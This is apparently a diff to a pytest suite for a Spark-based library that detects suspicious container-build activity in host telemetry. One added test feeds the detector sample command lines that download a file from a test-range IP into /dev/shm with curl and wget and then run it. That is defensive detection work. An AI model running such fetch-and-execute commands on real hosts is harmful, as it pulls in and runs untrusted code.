@@ -15,6 +15,8 @@ import pytest
 from pyspark.sql import DataFrame, SparkSession
 from t1612_spark import TOLD, correlate_batch, correlate_stream, latest, score
 from t1612_spark.chains import restored
+from t1612_spark.detectors import pack
+from t1612_spark.observing import _observed
 
 from t1612core import SCHEMAS, Detector, SnapshotError
 from t1612core.correlation import Settings, passed, step
@@ -57,6 +59,47 @@ def test_a_batch_has_the_chains_of_the_library(frame: Frame, schema: str) -> Non
 
     assert expected == by_spark(told)
     assert {("read", None): len(made)} == counts(told)
+
+
+def test_columns_have_the_chains_of_the_library(frame: Frame) -> None:
+    made = events.acts(EVENTS, 200)
+    told = correlate_batch(frame(events.mde_table(events.shuffled(made))), window=WINDOW).cache()
+
+    assert in_process(made, "mde") == by_spark(told)
+    assert {("read", None): len(made)} == counts(told)
+
+
+def test_what_a_batch_leaves_unread_is_no_step() -> None:
+    """All of a stream is read, so that it gives the steps that there are."""
+    lines = (
+        *(BUILD, RUN, "curl -o /dev/shm/x http://203.0.113.9/x", "/dev/shm/eng run -d agent:1"),
+        *("wget http://203.0.113.9/Dockerfile", "curl http://localhost/", "/usr/bin/docker ps"),
+    )
+    odd = [act("a", n * 9.0, line) for n, line in enumerate(lines)]
+    everyday = events.acts(6000, 60)
+    made = [{**each, "number": n} for n, each in enumerate([*everyday, *odd, *everyday])]
+    packed = pack("mde", "hardened", None)[1]
+    as_lines = events.text_table(made, "mde")
+    for text, table in (("", events.mde_table(made)), ("value", as_lines)):
+        names = table.column_names
+        read = {}
+        for is_clocked in (False, True):
+            given = iter(table.to_batches())
+            (told,) = _observed(packed, text, names, is_clocked, given)
+            read[is_clocked] = told.drop_columns("clock").to_pylist()
+        assert read[True] == read[False]
+        told_of = [str(each["step"]) for each in read[False]]
+        assert 1 == sum("/eng run" in each for each in told_of)
+        assert 1 == sum("/dev/shm/x" in each for each in told_of)
+
+
+def test_much_wrong_telemetry_is_told(frame: Frame) -> None:
+    table = pa.table({"colour": ["red"] * 2000, "FileName": pa.nulls(2000, pa.string())})
+    found = counts(correlate_batch(frame(table)))
+
+    assert 2000 == found.pop(("read", None))
+    assert {"unrecognised"} == {told for told, _ in found}
+    assert 2000 == sum(found.values())
 
 
 class Streamed:
@@ -169,11 +212,15 @@ def test_a_stream_goes_on_and_loses_nothing_unsaid(spark: SparkSession, tmp_path
 
 
 def test_what_has_no_time_does_not_move_the_time(spark: SparkSession, tmp_path: Path) -> None:
-    """A batch of garbage is as old as what came before it; the events after it are not late."""
+    """What has no time is as old as what came before it; the events after it are not late."""
     stream = Streamed(spark, tmp_path)
     stream.add([{**act("a", 0, BUILD), "number": 1}])
     stream.add([])
-    (tmp_path / "in" / "0001.jsonl").write_text('{"colour": "red"}\n' * 3, "utf-8")
+    timeless = [events.ecs({**act("t", 0, line), "number": 9}) for line in ("ls", BUILD)]
+    for each in timeless:
+        del each["@timestamp"]
+    garbage = [*[{"colour": "red"}] * 3, *timeless]
+    (tmp_path / "in" / "0001.jsonl").write_text("\n".join(map(json.dumps, garbage)), "utf-8")
     stream.add([{**act("a", 9, RUN), "number": 2}])
     # The last ones have the years 1 and 9999, which end nothing.
     stream.add([{**act("b", 0, BUILD), "number": 3}, *later(1)])
@@ -193,7 +240,7 @@ def test_what_has_no_time_does_not_move_the_time(spark: SparkSession, tmp_path: 
     assert [("b", "build")] == [each for each in told if each[0] == "b"]
     found = counts(stream.told)
     assert ("lost", "late") not in found
-    assert 10 == found["read", None]
+    assert (12, 1) == (found["read", None], found["lost", "no_time"])
 
 
 def verdicts(told: Told) -> list[tuple[str, str]]:
